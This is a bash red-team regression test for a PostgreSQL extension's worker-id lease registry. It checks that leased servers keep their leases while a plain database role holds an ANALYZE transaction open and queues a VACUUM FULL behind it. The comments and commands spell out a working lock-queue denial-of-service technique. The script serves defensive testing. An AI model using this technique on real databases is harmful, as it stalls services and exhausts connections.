#!/usr/bin/env bash
# Red-team attack on the worker-id registry (0.8.0 leases): the owner of
# the registry database (mallory, a plain role, in the red team's version;
# such a registry is now refused, and here the database is a superuser's,
# so she is any plain role of it) stops every leased server
# of the fleet from renewing, for as long as she likes, with two sessions.
#
# PostgreSQL 16 lets a database's owner VACUUM and ANALYZE every table of
# her database, and the extension grants USAGE on snowflake_id_internal to
# pg_database_owner (high_water.sql), so she can name the registry table:
#   1. BEGIN; ANALYZE snowflake_id_internal.snowflake_registry; -- and wait:
#      ANALYZE in a transaction block keeps its SHARE UPDATE EXCLUSIVE
#      lock until the transaction ends;
#   2. VACUUM FULL snowflake_id_internal.snowflake_registry: its ACCESS
#      EXCLUSIVE request queues behind (1).
# Every renewal's UPDATE (ROW EXCLUSIVE) and every claim queue behind (2).
# The lease worker gives up after a third of the TTL, drops the connection
# and reconnects, and its abandoned backend stays in the queue: each
# server leaks one registry backend per attempt, towards max_connections.
# The servers stop minting (55000) at their deadline.
#
# Passes (exit 0) when the server keeps its lease while she holds her
# sessions; fails (exit 1) while the attack works.
set -euo pipefail
source "$(dirname "${BASH_SOURCE[0]}")/attack_lib.sh"
# --- a registry and leased servers (as tests/integration/leases.sh sets
# them up: the documented GRANT, snowflake_lease's synchronous_commit = on,
# the registry not preloaded) ------------------------------------------
P0=${SNOWFLAKE_ATTACK_PORT:-56130}   # the registry; minting server N on P0+N
BASE=$(state_dir "$ROOT/.run/attack-reg-lockq" attack-__NAME__)
REG="$BASE/reg"
reg_cleanup() {
    local p d
    for p in "${holders[@]}"; do kill "$p" 2>/dev/null || true; done
    for d in "$BASE"/m* "$REG"; do [ -d "$d" ] && cluster_stop "$d"; done
    return 0
}
trap reg_cleanup EXIT
# node DIR PORT [settings...]: a fresh cluster in DIR, started.
node() {
    local d="$1" port="$2"; shift 2
    mkdir -p "$d"; if is_root; then chown postgres:postgres "$d"; fi
    cluster_stop "$d"
    cluster_init "$d" "$port" "$@"
    cluster_up "$d"
}
# rs ROLE DB ARGS...: psql on the registry. ms N ARGS...: psql as postgres
# on minting server N.
rs() { local r="$1" db="$2"; shift 2
       "$(pgbin)/psql" -X -q -h "$REG" -p "$P0" -U "$r" -d "$db" -v ON_ERROR_STOP=1 -At "$@"; }
ms() { local n="$1"; shift
       "$(pgbin)/psql" -X -q -h "$BASE/m$n" -p $((P0 + n)) -U postgres -d postgres -v ON_ERROR_STOP=1 -At "$@"; }
GRANT_SQL="GRANT EXECUTE ON FUNCTION
    snowflake_registry_claim(uuid,text,integer,text,text,integer,integer,integer,bigint,integer,bigint),
    snowflake_registry_renew(integer,uuid,bigint,integer,bigint),
    snowflake_registry_release(integer,uuid,bigint) TO snowflake_lease"
# registry_up: the registry's cluster; database "registry" owned by a
# superuser, as the lease worker requires (a registry database of a plain
# role is refused: attack_registry_owner.sh), the extension installed and
# initialised there as docs/worker-ids.md says.
registry_up() {
    node "$REG" "$P0"
    rs postgres postgres -c "CREATE ROLE snowflake_lease LOGIN" -c "CREATE ROLE mallory LOGIN" \
        -c "CREATE DATABASE registry" >/dev/null
    rs postgres registry -c "SET client_min_messages = warning" -c "CREATE EXTENSION snowflake_id" \
        -c "SELECT snowflake_registry_init()" -c "ALTER ROLE snowflake_lease SET synchronous_commit = on" \
        -c "$GRANT_SQL" >/dev/null
}
# minter_up N: minting server N, leasing from "registry" for 3 s.
minter_up() {
    node "$BASE/m$1" $((P0 + $1)) "shared_preload_libraries = 'snowflake_id'" \
        "snowflake_id.worker_id_source = 'registry'" \
        "snowflake_id.registry = 'host=$REG port=$P0 dbname=registry user=snowflake_lease'" \
        "snowflake_id.lease_ttl = '3s'"
    ms "$1" -c "SET client_min_messages = warning" -c "CREATE EXTENSION snowflake_id" >/dev/null
}
lease_of() { ms "$1" -c "SELECT lease_worker_id FROM snowflake_stats()" 2>/dev/null; }
has_lease() { [ -n "$(lease_of "$1")" ]; }
no_lease() { [ -z "$(lease_of "$1")" ]; }
last_error() { ms "$1" -c "SELECT coalesce(registry_last_error, '') FROM snowflake_stats()" 2>&1 | cut -c1-200; }
mints() { ms "$1" -c "SELECT snowflake_nextval()" >/dev/null 2>&1; }
leased() { poll_until 30 has_lease "$1" || die "server $1 leased no worker id within 30 s ($(last_error "$1"))"; }
# ------------------------------------------------------------------------
registry_up
minter_up 1
leased 1
log "attack (registry lock queue): server 1 holds worker id $(lease_of 1)"

# The attack: two sessions of the database owner.
rs mallory registry -c "BEGIN" -c "ANALYZE snowflake_id_internal.snowflake_registry" \
    -c "SELECT pg_sleep(60)" >/dev/null 2>&1 & holders+=($!)
holds() {
    [ "$(rs postgres registry -c "SELECT count(*) FROM pg_locks l JOIN pg_stat_activity a USING (pid)
                                   WHERE a.usename = 'mallory' AND l.granted
                                     AND l.relation = 'snowflake_id_internal.snowflake_registry'::regclass")" != 0 ]
}
poll_until 10 holds || log "attack (registry lock queue): her ANALYZE holds no lock on the registry table"
rs mallory registry -c "VACUUM FULL snowflake_id_internal.snowflake_registry" >/dev/null 2>&1 & holders+=($!)

poll_until 10 no_lease 1 || true
stuck=$(rs postgres registry -c "SELECT count(*) FROM pg_stat_activity WHERE usename = 'snowflake_lease' AND wait_event_type = 'Lock'")
log "attack (registry lock queue): server 1: lease $(lease_of 1 || true), $stuck lease backends waiting on a lock; $(last_error 1)"
no_lease 1 && die "attack (registry lock queue) WORKS: server 1 lost its lease ($stuck registry backends stuck in the lock queue): $(last_error 1)"
mints 1 || die "attack (registry lock queue) WORKS: server 1 cannot mint"
log "attack (registry lock queue) refused"
